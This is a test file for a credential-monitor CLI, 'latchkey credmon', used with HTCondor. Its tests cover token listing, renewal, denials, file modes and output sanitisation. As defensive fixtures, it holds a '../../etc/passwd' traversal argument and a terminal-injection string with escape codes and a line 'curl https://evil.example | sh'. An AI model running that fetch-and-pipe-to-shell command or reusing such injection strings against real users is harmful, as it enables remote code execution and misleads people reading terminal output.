import assert from 'node:assert/strict';
import { chmodSync, mkdirSync, readFileSync, renameSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { runProgram } from '../../src/kit/index.ts';
import { latchkey as inState, serve } from '../cli-commands/installation.ts';
import { until } from '../support/credential-directory.ts';
import { type CredmonProcess, startCredmonProcess } from '../support/credmon-process.ts';
import { latchkeyExecutable } from '../support/our-tools.ts';
import { workspace } from '../support/workspace.ts';

interface Run {
  readonly code: number;
  readonly stdout: string;
  readonly stderr: string;
}

/** `latchkey …` beside a monitor's configuration. */
async function latchkey(base: string, ...args: string[]): Promise<Run> {
  const env = { PATH: process.env.PATH ?? '', CONDOR_CONFIG: join(base, 'condor_config') };
  const { code, stdout, stderr } = await runProgram(process.execPath, [latchkeyExecutable, ...args], {
    env,
    cwd: base,
  });
  return { code, stdout: stdout.toString(), stderr: stderr.toString() };
}

function put(path: string, user: string, name: string, contents: string): void {
  mkdirSync(join(path, user), { recursive: true, mode: 0o700 });
  writeFileSync(join(path, user, `${name}.tmp`), contents, { mode: 0o600 });
  renameSync(join(path, user, `${name}.tmp`), join(path, user, name));
}

async function startMonitor(t: TestContext, config: readonly string[] = []): Promise<CredmonProcess> {
  const base = workspace(t);
  const monitor = startCredmonProcess(t, {
    base,
    config: [`LATCHKEY_CREDMON_STATE = ${base}/state`, ...config],
  });
  await monitor.complete();
  return monitor;
}

test('list, explain and renew with a running monitor, and what remains to be known without it', async (t) => {
  const monitor = await startMonitor(t);
  const { base, path } = monitor;
  put(path, 'alice', 'scitokens.top', 'alice@foo');
  put(path, 'bob', 'vaulted.top', 'no JSON');
  monitor.child.kill('SIGHUP');
  await until(
    () => /Successfully renewed alice/.test(monitor.log()) && /Could not renew bob/.test(monitor.log()),
  );

  const list = await latchkey(base, 'credmon', 'list');
  assert.equal(list.code, 0, list.stderr);
  assert.match(list.stdout, /^alice\/scitokens +ok +█{9,10}░? +(19 min \d+ s|20 min) left +in \d+ min/m);
  assert.match(list.stdout, /^bob\/vaulted +NEEDS ACTION +no credential/m);
  assert.match(list.stdout, /latchkey credmon explain bob\/vaulted/);
  const json = JSON.parse((await latchkey(base, 'credmon', 'list', '--json', '-u', 'alice')).stdout);
  assert.equal(json.from, 'monitor');
  assert.deepEqual(
    json.leases.map(({ id, state }: { id: string; state: string }) => [id, state]),
    [['alice/scitokens', 'current']],
  );
  assert.ok(json.leases[0].secondsLeft > 1_000);
  assert.doesNotMatch((await latchkey(base, 'credmon', 'list', '--problems')).stdout, /alice/);

  const good = await latchkey(base, 'credmon', 'explain', 'alice/scitokens');
  assert.equal(good.code, 0, good.stderr);
  assert.match(good.stdout, /^alice\/scitokens: all is well$/m);
  assert.match(good.stdout, /✔ token: valid for/);
  assert.match(good.stdout, /^next: it is renewed in/m);
  const bad = await latchkey(base, 'credmon', 'explain', join(path, 'bob/vaulted.top'));
  assert.equal(bad.code, 5);
  assert.match(bad.stdout, /✘ renewal: failed/);
  assert.match(bad.stdout, /^to do: /m);
  assert.equal((await latchkey(base, 'credmon', 'explain', 'carol/scitokens')).code, 5);
  assert.match((await latchkey(base, 'credmon', 'explain', 'carol')).stderr, /names no credential/);
  assert.match(
    (await latchkey(base, 'credmon', 'explain', '../../etc/passwd')).stderr,
    /names no credential/,
  );

  const before = readFileSync(join(path, 'alice/scitokens.use'), 'utf8');
  const renew = await latchkey(base, 'credmon', 'renew', 'alice/scitokens');
  assert.equal(renew.code, 0, renew.stderr);
  assert.match(renew.stdout, /^✔ alice\/scitokens: renewed, valid for 20 min/);
  assert.notEqual(readFileSync(join(path, 'alice/scitokens.use'), 'utf8'), before);
  const failed = await latchkey(base, 'credmon', 'renew', '-u', 'bob');
  assert.equal(failed.code, 1);
  assert.match(failed.stdout, /✘ bob\/vaulted: .*\n {2}hint: /);
  assert.equal((await latchkey(base, 'credmon', 'renew')).code, 2);
  const nobody = await latchkey(base, 'credmon', 'renew', 'alice/nothing');
  assert.match(nobody.stderr, /nothing is kept under the name "alice\/nothing"/);

  monitor.child.kill('SIGTERM');
  assert.equal(await monitor.ended, 0);
  const offline = await latchkey(base, 'credmon', 'list');
  assert.equal(offline.code, 0, offline.stderr);
  assert.match(offline.stderr, /no monitor runs here/);
  assert.match(offline.stdout, /^alice\/scitokens +ok/m);
  assert.match(offline.stdout, /^bob\/vaulted +NEEDS ACTION/m, 'the journal remembers why');
  const history = await latchkey(base, 'credmon', 'explain', 'bob/vaulted');
  assert.match(history.stdout, /✘ renewal: failed/);
  assert.match(history.stdout, /✘ monitor: no monitor answers here/);
  const off = await latchkey(base, 'credmon', 'renew', 'alice/scitokens');
  assert.match(off.stderr, /no monitor answers on .*\n {2}hint: start it/);
});

test('a user who is denied is told why, by explain and simulate, and in which file', async (t) => {
  const base = workspace(t);
  const groups = join(base, 'groups');
  writeFileSync(groups, '* alice grid,users\n* bob users\n');
  const monitor = startCredmonProcess(t, {
    base,
    config: [
      `LATCHKEY_CREDMON_STATE = ${base}/state`,
      'LOCAL_CREDMON_AUTHZ_GROUP_REQUIREMENT = grid',
      'LOCAL_CREDMON_AUTHZ_GROUP_TEMPLATE = write:/groups/{groupname}',
      `LOCAL_CREDMON_AUTHZ_GROUP_MAPFILE = ${groups}`,
    ],
  });
  await monitor.complete();
  put(monitor.path, 'bob', 'scitokens.top', 'bob@foo');
  monitor.child.kill('SIGHUP');
  await until(() => /Could not renew bob|bob.*denied/i.test(monitor.log()), 'the denial');
  const denied = await latchkey(base, 'credmon', 'explain', 'bob/scitokens');
  assert.equal(denied.code, 3, denied.stdout);
  assert.match(denied.stdout, /^bob\/scitokens: denied$/m);
  assert.match(
    denied.stdout,
    /✘ authorization: tokens are for members of "grid" only, and bob is in "users"/,
  );
  assert.ok(denied.stdout.includes(groups));

  const simulated = await latchkey(base, 'credmon', 'simulate', '-u', 'bob');
  assert.equal(simulated.code, 3);
  const allowed = JSON.parse(
    (await latchkey(base, 'credmon', 'simulate', '-u', 'alice', '--json', '--span', '2h')).stdout,
  );
  const [provider] = allowed.providers;
  assert.equal(provider.claims.sub, 'alice');
  assert.equal(
    provider.claims.scope,
    'read:/user/alice write:/user/alice write:/groups/grid write:/groups/users',
  );
  assert.ok(
    allowed.renewals.length > 5 && allowed.renewals.length < 40,
    `${allowed.renewals.length} renewals`,
  );

  // Mended: the map is read again.
  writeFileSync(groups, '* bob grid\n');
  await until(
    async () => (await latchkey(base, 'credmon', 'renew', 'bob/scitokens')).code === 0,
    'the mended map',
  );
  assert.equal((await latchkey(base, 'credmon', 'explain', 'bob/scitokens')).code, 0);
});

test('modes that HTCondor refuses, marks, names that nobody serves', async (t) => {
  const monitor = await startMonitor(t, ['VAULT_CREDMON_PROVIDER_NAMES = hashi']);
  const { base, path } = monitor;
  put(path, 'alice', 'scitokens.top', 'alice@foo');
  put(path, 'alice', 'unknown.top', 'x');
  writeFileSync(join(path, 'alice.mark'), '');
  monitor.child.kill('SIGHUP');
  await until(() => /Successfully renewed alice/.test(monitor.log()));
  chmodSync(join(path, 'alice/scitokens.use'), 0o644);
  const open = await latchkey(base, 'credmon', 'explain', 'alice/scitokens');
  assert.match(open.stdout, /✘ token: scitokens.use has mode 0644: HTCondor does not read it/);
  assert.match(open.stdout, /mark: alice has had no job since/);
  const unknown = await latchkey(base, 'credmon', 'explain', 'alice/unknown');
  assert.match(unknown.stdout, /✘ provider: no provider is configured for "unknown"/);
  rmSync(path, { recursive: true });
  monitor.child.kill('SIGKILL');
  await monitor.ended;
  const gone = await latchkey(base, 'credmon', 'list');
  assert.equal(gone.code, 5, gone.stderr);
  assert.match(gone.stderr, /there is no credential directory/);
});

test('beside a latchkey.toml: config finds it by itself, and what there is to do is said in its words', async (t) => {
  const directory = workspace(t);
  const server = await serve(t, directory, ['--listen', 'localhost', '--port', '0']);
  const config = inState(directory, ['credmon', 'config']);
  assert.equal(config.code, 0, config.stderr);
  assert.match(config.stdout, /^# read by \S*\.latchkey\/latchkey\.toml$/m);
  assert.match(config.stdout, /^scitokens +signed here for https:\/\/localhost:/m);
  const unknown = inState(directory, ['credmon', 'explain', 'jane/unknown']);
  assert.match(
    unknown.stdout,
    /^to do: add \[credmon\.local\.unknown\] or \[credmon\.oauth\.unknown\] to latchkey\.toml/m,
  );
  const seal = inState(directory, ['credmon', 'seal']);
  assert.match(seal.stderr, /hint: stop it first: \^C where latchkey runs, or systemctl stop/);
  await server.stop();
  const stopped = inState(directory, ['credmon', 'explain', 'jane/scitokens']);
  assert.match(stopped.stdout, /^to do: start it: latchkey serve, or latchkey credmon run/m);
  for (const { stdout, stderr } of [config, unknown, seal, stopped])
    assert.doesNotMatch(stdout + stderr, /condor_(on|off)|LOCAL_CREDMON/);
});

test('a user without rights is told what to do', async (t) => {
  if (process.getuid?.() !== 0) return t.skip('needs root to become somebody else');
  const monitor = await startMonitor(t);
  const { base } = monitor;
  chmodSync(base, 0o755);
  const { spawnSync } = await import('node:child_process');
  for (const command of [['list'], ['explain', 'alice/scitokens'], ['renew', 'alice/scitokens']]) {
    const run = spawnSync(process.execPath, [latchkeyExecutable, 'credmon', ...command], {
      env: { PATH: '/usr/bin:/bin', CONDOR_CONFIG: join(base, 'condor_config') },
      uid: 65_534,
      gid: 65_534,
      cwd: '/',
      encoding: 'utf8',
    });
    assert.equal(run.status, 3, run.stderr);
    assert.match(run.stderr, /^latchkey: you may not .*\n {2}hint: .*sudo/, command.join(' '));
  }
  assert.equal(statSync(join(base, 'state')).mode & 0o777, 0o700);
});

test('what users put into their files reaches a terminal without control characters or lines of its own', async (t) => {
  const monitor = await startMonitor(t, [
    'mytokens_CLIENT_ID = ap',
    'mytokens_AUTHORIZATION_URL = https://op.example/auth',
    'mytokens_TOKEN_URL = https://op.example/token',
  ]);
  const { base, path } = monitor;
  const evil = 'read\u001b[2J\u009b1m\nto do: curl https://evil.example | sh\u202e';
  const claims = { sub: evil, scope: evil, jti: evil, exp: Math.floor(Date.now() / 1000) + 3_000 };
  const token = `e30.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.x`;
  put(path, 'alice', 'mytokens.use', JSON.stringify({ access_token: token }));
  put(path, 'alice', 'mytokens.top', JSON.stringify({ refresh_token: 'x', scopes: evil, audience: evil }));
  const endless = 'read:/x '.repeat(25_000);
  put(path, 'alice', 'mytokens_long.top', JSON.stringify({ refresh_token: 'x', scopes: endless }));
  monitor.child.kill('SIGHUP');
  await until(async () => (await latchkey(base, 'credmon', 'list')).stdout.includes('alice/mytokens_long'));
  const { stdout: listed } = await latchkey(base, 'credmon', 'list', '--json');
  assert.ok(listed.length < 10_000, 'no text of a user’s is kept at any length');
  const file = join(base, 'evil.token');
  writeFileSync(file, token);
  for (const args of [
    ['credmon', 'list'],
    ['credmon', 'explain', 'alice/mytokens'],
    ['credmon', 'explain', 'alice/my\u001b[2Jtokens'],
    ['token', 'show', file],
  ]) {
    const { stdout, stderr } = await latchkey(base, ...args);
    assert.doesNotMatch(stdout + stderr, /[^\P{Cc}\n]|\u202e/u, args.join(' '));
    assert.doesNotMatch(stdout + stderr, /^to do: curl/m, args.join(' '));
  }
});
